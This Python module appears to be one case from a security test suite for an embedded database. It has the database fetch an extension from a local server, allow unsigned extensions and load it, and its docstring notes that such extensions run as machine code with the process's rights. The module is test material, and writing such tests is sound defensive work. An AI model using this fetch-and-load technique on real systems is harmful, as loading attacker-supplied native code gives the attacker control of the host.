"""Have an extension fetched from the network and kept on the host.

origin: INSTALL and LOAD; extensions are machine code with the rights of the process
why: the database has a client of its own for its extensions
control: succeeds
harm: stage
grants: data
data: input
timeout: 10
"""


def attack(target):
    server = f"http://127.0.0.1:{target['tcp']}"
    last = ""
    for database in databases(home_directory=target["stage"], allow_unsigned_extensions="true"):
        for statement in (f"INSTALL httpfs FROM '{server}'", "LOAD httpfs", "INSTALL spatial", "UPDATE EXTENSIONS"):
            last = ask(database, statement)[1] or last
    return nothing(last)
